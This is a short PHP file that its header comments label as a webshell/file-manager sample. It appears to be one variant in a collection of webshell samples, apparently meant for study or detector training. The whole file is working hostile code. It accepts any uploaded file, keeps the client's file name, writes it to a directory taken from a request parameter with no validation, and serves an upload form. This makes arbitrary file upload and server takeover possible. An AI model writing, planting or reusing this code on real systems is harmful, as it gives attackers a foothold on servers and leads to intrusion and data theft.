<?php
// Family: webshell/file-manager
// Style: uploader that keeps the client's name, through variables
// Trait: the uploaded temporary file moved to a directory and name the request chose, no check
$up = $_FILES['pick'];
$dir = empty($_GET['in']) ? './' : $_GET['in'] . '/';
$target = $dir . $up['name'];
if (move_uploaded_file($up['tmp_name'], $target)) {
	echo 'done: ' . $target;
}
echo '<form method="post" enctype="multipart/form-data"><input type="file" name="pick"><input type="submit"></form>';
